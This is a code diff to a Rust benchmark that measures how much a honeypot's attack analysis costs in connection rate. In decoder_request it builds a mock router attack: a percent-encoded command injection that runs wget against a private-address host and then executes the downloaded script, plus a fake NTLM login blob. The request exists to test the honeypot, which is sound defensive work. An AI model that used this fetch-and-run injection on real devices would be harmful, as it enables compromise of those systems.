@@ -27,6 +27,15 @@
 //! source address (the client sends FIN first, so TIME_WAIT lands on the client
 //! side; Linux reuses loopback TIME_WAIT ports with the default tcp_tw_reuse = 2).
 //!
+//! * `analysis`: the rate load against honeytrap twice in the same run, first with
+//!   `[analysis] enabled = false`, then with every analyzer on except `selftest`
+//!   (`--rounds` pairs); the ratio on/off is the cost of analysis to capture (the
+//!   target is at least 0.90x). Clients send `--request decoders` by default here: an HTTP request with
+//!   an NTLM Authenticate blob (base64), a percent-encoded query and a `wget` of a
+//!   private address (refused by the downloader before any connect). Records are
+//!   counted without the virtual attacks' events; the analysis counters come from
+//!   the final counters line.
+//!
 //! Diagnostics: `--outputs jsonl|none` disables honeytrap's transcript files (and the
 //! event log) to show what they cost; `--data-parent DIR` puts its data directory on
 //! another file system (e.g. /dev/shm); `--honeytrap-first` swaps the order;
@@ -47,7 +56,7 @@ use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
-/// What each rate-scenario client sends.
+/// What each rate-scenario client sends by default.
 const REQUEST: &[u8] = b"GET / HTTP/1.0\r\n\r\n";
 /// Longest one client connection (connect to EOF) may take before it is given up.
 const CONN_TIMEOUT: Duration = Duration::from_secs(5);
@@ -66,7 +75,42 @@ const LOSS_COUNTERS: &[&str] = &[
 enum Scenario {
     Rate,
     Memory,
+    /// Rate with analysis off, then on, in the same run (not part of `all`).
+    Analysis,
     All,
+}
+
+/// `[analysis]` of the generated config.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+enum AnalysisMode {
+    /// Not set: honeytrap's defaults (analysis on, default analyzers).
+    Default,
+    /// `[analysis] enabled = false`.
+    Off,
+    /// Every analyzer enabled except `selftest`.
+    On,
+}
+
+impl AnalysisMode {
+    fn toml(self) -> &'static str {
+        match self {
+            AnalysisMode::Default => "",
+            AnalysisMode::Off => "[analysis]\nenabled = false\n\n",
+            AnalysisMode::On => {
+                "[analysis]\nenabled = true\n\n[analyzer.selftest]\nenabled = false\n\n"
+            }
+        }
+    }
+}
+
+/// What the rate clients send.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+enum Request {
+    /// `GET / HTTP/1.0` (18 bytes).
+    Plain,
+    /// A request that gives every decoder and the http downloader work (see
+    /// [`decoder_request`]).
+    Decoders,
 }
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
@@ -109,7 +153,7 @@ impl Outputs {
     }
 }
 
-#[derive(Debug, Parser)]
+#[derive(Debug, Clone, Parser)]
 #[command(
     about = "Connection-rate and idle-memory benchmark: honeytrap against a bare tokio server"
 )]
@@ -156,6 +200,15 @@ struct Args {
     /// `segments`).
     #[arg(long, value_enum)]
     transcript_layout: Option<Layout>,
+    /// `[analysis]` of the generated config (the `analysis` scenario sets it itself).
+    #[arg(long, value_enum, default_value_t = AnalysisMode::Default)]
+    analysis: AnalysisMode,
+    /// What each client sends (default: `plain`; `decoders` in the `analysis` scenario).
+    #[arg(long, value_enum)]
+    request: Option<Request>,
+    /// Off/on pairs of the `analysis` scenario.
+    #[arg(long, default_value_t = 1)]
+    rounds: usize,
     /// Run honeytrap before the bare server in the rate scenario.
     #[arg(long)]
     honeytrap_first: bool,
@@ -206,6 +259,9 @@ fn main() -> Result<()> {
     if matches!(args.scenario, Scenario::Memory | Scenario::All) {
         scenario_memory(&args, &mut rows)?;
     }
+    if args.scenario == Scenario::Analysis {
+        scenario_analysis(&args, &mut rows)?;
+    }
     print_table(&rows);
     Ok(())
 }
@@ -225,6 +281,9 @@ fn check_args(a: &Args) -> Result<()> {
     }
     if a.sources == 0 || a.sources > 64 {
         bail!("--sources must be in 1..=64");
+    }
+    if !(1..=10).contains(&a.rounds) {
+        bail!("--rounds must be in 1..=10");
     }
     if a.port == 0 {
         bail!("--port must not be 0");
@@ -602,6 +661,25 @@ fn final_counters(log: &[String]) -> Option<BTreeMap<String, u64>> {
     )
 }
 
+/// The analysis counters, as `name=value` (analysis_skipped: attacks that went out
+/// unanalyzed because the analysis queue was full).
+fn analysis_counters(c: &BTreeMap<String, u64>) -> String {
+    [
+        "analysis_skipped",
+        "analyzer_runs",
+        "analyzer_failures",
+        "analyzer_timeouts",
+        "analyzer_skipped",
+        "virtual_attacks",
+        "findings",
+        "downloads",
+    ]
+    .iter()
+    .map(|k| format!("{k}={}", c.get(*k).copied().unwrap_or(0)))
+    .collect::<Vec<_>>()
+    .join(" ")
+}
+
 /// The limit and loss counters that are not zero, as `name=value`.
 fn limit_drop_counters(c: &BTreeMap<String, u64>) -> Vec<String> {
     c.iter()
@@ -621,6 +699,22 @@ fn count_lines(path: &Path) -> Result<u64> {
         buf.clear();
     }
     Ok(n)
+}
+
+/// Events of real attacks and of virtual attacks (decoded copies) in `path`.
+fn count_events(path: &Path) -> Result<(u64, u64)> {
+    let mut r = BufReader::with_capacity(1 << 20, std::fs::File::open(path)?);
+    let (mut real, mut virt) = (0, 0);
+    let mut buf = Vec::new();
+    while r.read_until(b'\n', &mut buf)? > 0 {
+        if buf.windows(14).any(|w| w == b"\"virtual\":true") {
+            virt += 1;
+        } else {
+            real += 1;
+        }
+        buf.clear();
+    }
+    Ok((real, virt))
 }
 
 fn count_files(dir: &Path) -> u64 {
@@ -648,6 +742,7 @@ fn records_row(
     let transcripts = count_files(&data.join("transcripts"));
     let counters = final_counters(&stopped.log);
     // Without the event log, the recorder's `attacks` counter stands in for it.
+    // Virtual attacks (decoded copies) have events of their own: not counted here.
     let (written, what) = match outputs {
         Outputs::None => (
             counters
@@ -657,7 +752,7 @@ fn records_row(
             "recorded (no outputs)",
         ),
         _ => (
-            count_lines(&data.join("events.jsonl")).unwrap_or(0),
+            count_events(&data.join("events.jsonl")).map_or(0, |(real, _)| real),
             "written",
         ),
     };
@@ -678,9 +773,10 @@ fn records_row(
         Some(c) => {
             let l = limit_drop_counters(c);
             format!(
-                "accepted={} attacks={}; limit/drop counters: {}",
+                "accepted={} attacks={}; {}; limit/drop counters: {}",
                 c.get("connections").copied().unwrap_or(0),
                 c.get("attacks").copied().unwrap_or(0),
+                analysis_counters(c),
                 if l.is_empty() {
                     "none".to_string()
                 } else {
@@ -781,7 +877,7 @@ enum ConnError {
     Io,
 }
 
-async fn one_connection(src: IpAddr, dst: SocketAddr) -> Result<(), ConnError> {
+async fn one_connection(src: IpAddr, dst: SocketAddr, request: &[u8]) -> Result<(), ConnError> {
     let sock = tokio::net::TcpSocket::new_v4().map_err(|_| ConnError::Connect)?;
     // Pick the port at connect() time, unique per 4-tuple, not at bind() time.
     let one: libc::c_int = 1;
@@ -797,7 +893,7 @@ async fn one_connection(src: IpAddr, dst: SocketAddr) -> Result<(), ConnError> {
     sock.bind(SocketAddr::new(src, 0))
         .map_err(|_| ConnError::Connect)?;
     let mut s = sock.connect(dst).await.map_err(|_| ConnError::Connect)?;
-    s.write_all(REQUEST).await.map_err(|_| ConnError::Io)?;
+    s.write_all(request).await.map_err(|_| ConnError::Io)?;
     // FIN after the request: the server sees EOF and ends the session.
     s.shutdown().await.map_err(|_| ConnError::Io)?;
     let mut buf = [0u8; 1024];
@@ -812,6 +908,10 @@ async fn one_connection(src: IpAddr, dst: SocketAddr) -> Result<(), ConnError> {
 
 fn run_rate(args: &Args, target: &Target) -> Result<RateResult> {
     let dst = SocketAddr::from((Ipv4Addr::LOCALHOST, args.port));
+    let request: Arc<[u8]> = match request_kind(args) {
+        Request::Plain => REQUEST.into(),
+        Request::Decoders => decoder_request().into(),
+    };
     let rt = tokio::runtime::Builder::new_multi_thread()
         .worker_threads(client_threads(args))
         .thread_name("connbench-client")
@@ -826,10 +926,13 @@ fn run_rate(args: &Args, target: &Target) -> Result<RateResult> {
         .map(|i| {
             let c = Arc::clone(&c);
             let src = source_addr(i, args.sources);
+            let request = Arc::clone(&request);
             rt.spawn(async move {
                 // Bounded by time (end) and by count (max).
                 while tokio::time::Instant::now() < end && c.started.fetch_add(1, Relaxed) < max {
-                    match tokio::time::timeout(CONN_TIMEOUT, one_connection(src, dst)).await {
+                    match tokio::time::timeout(CONN_TIMEOUT, one_connection(src, dst, &request))
+                        .await
+                    {
                         Ok(Ok(())) => {
                             let now = tokio::time::Instant::now();
                             let slot = if now < warm_end {
@@ -984,8 +1087,9 @@ responses = 10
 [output]
 queue_size = 65536
 
-{outputs}"#,
+{analysis}{outputs}"#,
         port = args.port,
+        analysis = args.analysis.toml(),
         outputs = args.outputs.toml(args.transcript_layout)
     )
 }
@@ -1273,5 +1377,134 @@ fn scenario_memory(args: &Args, rows: &mut Vec<Row>) -> Result<()> {
     rec.scenario = "records";
     rec.notes = format!("(memory run) {}", rec.notes);
     rows.push(rec);
+    Ok(())
+}
+
+// ---------------------------------------------------------------------------
+// Analysis scenario
+
+fn request_kind(args: &Args) -> Request {
+    args.request
+        .unwrap_or(if args.scenario == Scenario::Analysis {
+            Request::Decoders
+        } else {
+            Request::Plain
+        })
+}
+
+/// An HTTP request that gives the decoders and a downloader work: a percent-encoded
+/// query (percent), `Authorization: NTLM` with an NTLMSSP Authenticate message
+/// (base64, whose copy holds UTF-16LE names), and a `wget` of a private address in
+/// the query (the http downloader parses it and refuses the address before any
+/// connect; the dedup window answers later attacks from its memory).
+fn decoder_request() -> Vec<u8> {
+    use base64::Engine as _;
+    let utf16 = |s: &str| {
+        s.encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect::<Vec<u8>>()
+    };
+    let fields = [
+        vec![0x11; 24],
+        vec![0x22; 24],
+        utf16("WORKGROUP"),
+        utf16("administrator"),
+        utf16("KALI"),
+        vec![0x33; 16],
+    ];
+    let mut m = b"NTLMSSP\0".to_vec();
+    m.extend(3u32.to_le_bytes());
+    let mut offset = 64u32;
+    for f in &fields {
+        m.extend((f.len() as u16).to_le_bytes());
+        m.extend((f.len() as u16).to_le_bytes());
+        m.extend(offset.to_le_bytes());
+        offset += f.len() as u32;
+    }
+    m.extend(0xe288_8215u32.to_le_bytes());
+    for f in &fields {
+        m.extend(f);
+    }
+    let blob = base64::engine::general_purpose::STANDARD.encode(&m);
+    format!(
+        "GET /cgi-bin/luci?cmd=%63%64%20%2Ftmp%3B%20wget%20http%3A%2F%2F10.9.8.7%2Fbins%2Fx.sh%3B%20sh%20x.sh HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0\r\nAuthorization: NTLM {blob}\r\n\r\n"
+    )
+    .into_bytes()
+}
+
+/// One honeytrap rate run with `mode`: the rate row and the records row.
+fn honeytrap_rate(
+    args: &Args,
+    mode: AnalysisMode,
+    label: &'static str,
+) -> Result<(RateResult, Row, Row)> {
+    let mut a = args.clone();
+    a.analysis = mode;
+    eprintln!("[analysis] honeytrap, {label}: starting");
+    let mut t = Target::honeytrap(&a, &rate_config(&a))?;
+    let r = run_rate(&a, &t)?;
+    eprintln!(
+        "[analysis] honeytrap, {label}: {:.0} conn/s; SIGTERM",
+        r.rate
+    );
+    let stopped = t.stop(Duration::from_secs(120))?;
+    let data = t.data_dir().unwrap();
+    let mut rec = records_row("records", &stopped, &data, r.completed_total, a.outputs);
+    if let Ok((_, virt)) = count_events(&data.join("events.jsonl")) {
+        rec.notes
+            .push_str(&format!("; virtual-attack events={virt}"));
+    }
+    rec.target = label;
+    let mut row = rate_row(label, &r);
+    row.scenario = "analysis";
+    drop(t);
+    Ok((r, row, rec))
+}
+
+fn scenario_analysis(args: &Args, rows: &mut Vec<Row>) -> Result<()> {
+    eprintln!(
+        "[analysis] request ({:?}, {} bytes): {}",
+        request_kind(args),
+        decoder_request().len(),
+        String::from_utf8_lossy(&match request_kind(args) {
+            Request::Plain => REQUEST.to_vec(),
+            Request::Decoders => decoder_request(),
+        })
+        .escape_debug()
+    );
+    let mut ratios = Vec::new();
+    for round in 0..args.rounds {
+        if round > 0 {
+            settle_pause();
+        }
+        let (off, off_row, off_rec) = honeytrap_rate(args, AnalysisMode::Off, "ht-off")?;
+        settle_pause();
+        let (on, mut on_row, on_rec) = honeytrap_rate(args, AnalysisMode::On, "ht-on")?;
+        let ratio = on.rate / off.rate.max(1e-9);
+        ratios.push(ratio);
+        on_row.ratio = format!("{ratio:.2}x");
+        on_row.goal = format!(
+            ">= 0.90x: {}",
+            if ratio >= 0.90 { "met" } else { "NOT met" }
+        );
+        rows.extend([off_row, on_row, off_rec, on_rec]);
+    }
+    if ratios.len() > 1 {
+        let min = ratios.iter().copied().fold(f64::INFINITY, f64::min);
+        let max = ratios.iter().copied().fold(0.0, f64::max);
+        let mut r = row("analysis", "on/off", format!("{} rounds", ratios.len()));
+        r.ratio = format!("{min:.2}-{max:.2}x");
+        r.goal = format!(
+            ">= 0.90x: {}",
+            if min >= 0.90 {
+                "met"
+            } else if max >= 0.90 {
+                "met in some"
+            } else {
+                "NOT met"
+            }
+        );
+        rows.push(r);
+    }
     Ok(())
 }
